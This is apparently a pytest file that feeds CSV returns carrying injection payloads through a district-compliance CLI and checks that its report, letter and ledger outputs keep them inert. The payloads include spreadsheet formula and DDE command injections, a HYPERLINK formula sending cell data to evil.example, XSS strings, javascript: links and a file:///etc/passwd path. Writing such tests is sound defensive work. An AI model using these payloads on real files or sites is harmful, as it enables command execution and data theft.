"""What districts write stands in every output as it was written: no formula, link or markup, in whatever field it came."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from tests.cli.running import MINI, run

# Each begins what one program or another obeys: spreadsheets, browsers, viewers of Markdown, office programs.
PAYLOADS = {
    "formula": "=cmd|'/c calc'!A1", "plus": "+1+cmd|'/c calc'!A1", "minus": "-1+cmd|'/c calc'!A1", "at": "@SUM(1+9)*cmd|'/c calc'!A1",
    "after a tab": "\t=1+1", "after a break": "\n=1+1", "wide": "＝cmd|'/c calc'!A1", "function": '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "remote": "=WEBSERVICE(\"http://evil.example\")", "exchange": "=DDE(\"cmd\";\"/c calc\";\"1\")",
    "script": "<script>alert(1)</script>", "picture": "<img src=x onerror=alert(1)>", "out of an attribute": "\" onmouseover=\"alert(1)",
    "link": "[看](javascript:alert(1))", "shown picture": "![看](http://evil.example/x.png)", "automatic link": "<http://evil.example/>",
    "address": "javascript:alert(1)", "file": "file:///etc/passwd", "share": "\\\\evil.example\\share\\x",
    "table": "a | b |\n|---|", "heading": "# 达标", "comment": "--> <b>达标</b> <!--", "entity": "&lt;b&gt;&#x3c;script&#x3e;", "end": "]]>",
    "field": "{ HYPERLINK \"http://evil.example\" }", "template": "{{ 7*7 }} ${7*7} %(x)s {0.__class__}",
}
FIELDS = ("subject", "claim", "evidence", "remark", "mark", "reviewer", "number", "heading", "file")
HEADER = ["单位", "年度", "publicity", "佐证", "备注", "审核", "审核人", "小城经费"]
GOOD = ["东区", "2020", "已完成", "东政发〔2019〕3号", "", "", "", "1000"]
PLACE = {"subject": 0, "claim": 2, "evidence": 3, "remark": 4, "mark": 5, "reviewer": 6, "number": 7}


def returned(folder: Path, field: str) -> list[Path]:
    """A file for each payload in one field, and one that is right."""
    files = []
    for number, payload in enumerate(PAYLOADS.values()):
        header, row, name = list(HEADER), list(GOOD), f"东区{number}"
        row[3] = f"东政发〔2019〕{number + 1}号"
        if field in PLACE:
            row[PLACE[field]] = payload
        elif field == "heading":
            header[7] = payload
        else:
            name = re.sub(r"[/\0\n]", "_", payload)
        path = folder / f"{name}.csv"
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([header, row])
        files.append(path)
    return files


def is_obeyed(text: str) -> bool:
    """Whether a spreadsheet takes a cell of a text file for a formula: it begins so, and is no number."""
    return text[:1] in "=+-@\t\r" and text != "" and re.fullmatch(r"[+-]?[\d.,%]+", text) is None


def csv_obeys(data: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        yield from (cell for cell in row if is_obeyed(cell))


def excel_obeys(data: bytes) -> Iterator[str]:
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f" and re.search(r"evil|cmd|1\+[19]|7\*7", str(cell.value)):
                yield str(cell.value)
            if cell.hyperlink is not None and cell.hyperlink.target is not None:
                yield cell.hyperlink.target
    yield from outside(data)


def outside(data: bytes) -> Iterator[str]:
    """What a package points to outside of it, and fields that hold what was written."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                yield from re.findall(r'[^>]*TargetMode="External"[^>]*', text)
            yield from re.findall(r"<w:instrText[^>]*>[^<]*(?:evil|cmd|HYPERLINK)[^<]*", text)


OWN_ICON = "data:,"
_leads_out = re.compile(r"\s*(?:javascript|data|file|https?|\\\\)", re.IGNORECASE).match


class _Page(HTMLParser):
    """Gathers what a browser would obey of what was written."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            leads_out = name in ("href", "src") and value != OWN_ICON and _leads_out(value or "") is not None
            if name.startswith("on") or leads_out:
                self.found.append(f"{tag} {name}={value}")
        if tag in ("img", "iframe", "object", "embed", "base"):
            self.found.append(tag)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and "alert(1)</" in data:
            self.found.append(data)


def html_obeys(data: bytes) -> Iterator[str]:
    page = _Page()
    page.feed(data.decode("utf-8"))
    yield from page.found


def markdown_obeys(data: bytes) -> Iterator[str]:
    text = data.decode("utf-8")
    yield from re.findall(r"(?<!\\)\[[^\]]*(?<!\\)\]\([^)]*", text)
    yield from re.findall(r"(?<![\\`])<(?:script|img|http)[^>]*", text)
    yield from re.findall(r"^# 达标", text, re.MULTILINE)


def nothing(data: bytes) -> Iterator[str]:
    """Text in which nothing is obeyed but what steers a terminal."""
    yield from re.findall(r"[\x00-\x08\x0b-\x1f\x7f]", data.decode("utf-8"))


OBEYED: dict[str, tuple[str, Callable[[bytes], Iterator[str]]]] = {
    "csv": ("report.csv", csv_obeys), "excel": ("report.xlsx", excel_obeys), "html": ("report.html", html_obeys),
    "markdown": ("report.md", markdown_obeys), "word": ("report.docx", outside), "table": ("report.txt", nothing),
}


@pytest.fixture(scope="module", params=FIELDS)
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder in which every output of one run stands, all of whose returns try to be obeyed in one field."""
    folder = tmp_path_factory.mktemp(request.param)
    sent = folder / "sent"
    sent.mkdir()
    files = [str(path) for path in returned(sent, request.param)]
    out = folder / "out"
    out.mkdir()
    judged = ("check", *MINI, *files, "--as-of", "2020-12-31", "--detail", "--lang", "zh")
    for format, (name, _) in OBEYED.items():
        done = run(*judged, "-f", format, "-o", str(out / name))
        assert done.exit_code in (0, 1, 3), done.stderr
    for arguments in (
        ("check", *MINI, *files, "--as-of", "2020-12-31", "-f", "json", "-o", str(out / "report.json")),
        ("letters", *MINI, *files, "--as-of", "2020-12-31", "-o", str(out / "letters")),
        ("ledger", "take-in", str(out / "report.json"), "--db", str(out / "l.db"), "--by", "=1+cmd|'/c calc'!A1"),
        ("ledger", "export", "--db", str(out / "l.db"), "-o", str(out / "ledger.xlsx")),
    ):
        done = run(*arguments)
        assert done.exit_code in (0, 1, 3), (arguments[0], done.stderr)
    return out


@pytest.mark.parametrize("format", OBEYED)
def test_no_format_obeys_what_a_return_says(written: Path, format: str) -> None:
    name, obeyed = OBEYED[format]
    assert list(obeyed((written / name).read_bytes())) == []


@pytest.mark.parametrize("name", ["report.html", "report.md", "report.txt"])
def test_what_was_written_is_shown(written: Path, name: str) -> None:
    if written.parent.name.startswith("reviewer"):
        return  # Who reviewed stands in the JSON report alone.
    assert "evil.example" in (written / name).read_text(encoding="utf-8").replace("\\", "")


def test_no_letter_obeys_what_a_return_says(written: Path) -> None:
    letters = list((written / "letters").glob("*.docx"))
    assert letters
    assert [found for letter in letters for found in outside(letter.read_bytes())] == []


def test_no_ledger_obeys_what_a_return_says(written: Path) -> None:
    assert list(excel_obeys((written / "ledger.xlsx").read_bytes())) == []


@pytest.mark.parametrize(("data", "obeyed"), [
    (b"=1+1,x\r\n", csv_obeys), (b"<img src=x>", html_obeys), (b'<a href="javascript:x">', html_obeys),
    ("[看](javascript:alert(1))".encode(), markdown_obeys), (b"<script>", markdown_obeys), (b"\x1b[2J", nothing),
])
def test_what_is_obeyed_would_be_found(data: bytes, obeyed: Callable[[bytes], Iterator[str]]) -> None:
    assert list(obeyed(data))
